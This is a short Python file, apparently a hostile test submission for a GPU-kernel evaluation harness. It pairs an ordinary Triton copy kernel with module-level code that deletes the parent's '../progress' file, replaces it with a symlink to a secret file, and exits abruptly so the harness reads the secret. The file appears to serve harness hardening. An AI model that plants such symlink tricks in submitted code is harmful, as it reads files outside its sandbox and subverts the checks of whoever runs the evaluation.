"""Hostile: turns its progress file into a link to a secret, then dies, so the parent reads the secret."""
import os

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def copy_kernel(src_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(out_ptr + offs, tl.load(src_ptr + offs, mask=mask), mask=mask)


def launch_copy(src, out):
    n = out.numel()
    copy_kernel[(triton.cdiv(n, 1024),)](src, out, n, BLOCK=1024)
    return out

SECRET_FILE = "/tmp/evokernel-hostile-secret"

os.unlink("../progress")
os.symlink(SECRET_FILE, "../progress")
os._exit(3)


class ModelNew(nn.Module):
    def forward(self, x):
        return launch_copy(x, torch.empty_like(x))
